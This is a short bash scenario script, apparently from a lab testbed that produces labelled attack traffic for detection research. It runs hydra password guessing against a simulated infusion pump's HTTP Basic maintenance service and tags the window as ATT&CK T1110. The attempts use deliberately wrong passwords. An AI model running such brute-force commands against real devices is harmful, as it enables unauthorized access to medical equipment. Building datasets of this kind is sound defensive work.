# Password guessing against pump 1's maintenance web service (HTTP Basic on GET /service, port
# 8080): hydra's http-get module tries 15 wrong passwords for `admin`, one task, each refused
# with 401.
DEFAULT_DURATION=30
attack_http_brute_force() {
  command -v hydra > /dev/null || { echo "hydra missing (scripts/install-deps.sh)" >&2; return 1; }
  local t0 t1 i
  for i in $(seq 1 15); do echo "maint$i"; done > "$out/logs/http-passwords.txt"
  t0=$(now)
  # -I: no restore file; hydra writes nothing else but its log.
  run_in attacker hydra-http 30 hydra -I -l admin -P "$out/logs/http-passwords.txt" -t 1 -w 5 \
    -s 8080 10.10.2.21 http-get /service
  t1=$(now)
  label brute_force T1110 attacker pump1 "$t0" "$t1" \
    "hydra http-get: 15 wrong passwords for admin on PUMP0021's maintenance service (GET /service, HTTP Basic), each refused with 401"
}
scenario_run() {
  start_ward "$1"
  sleep 5
  attack_http_brute_force
}
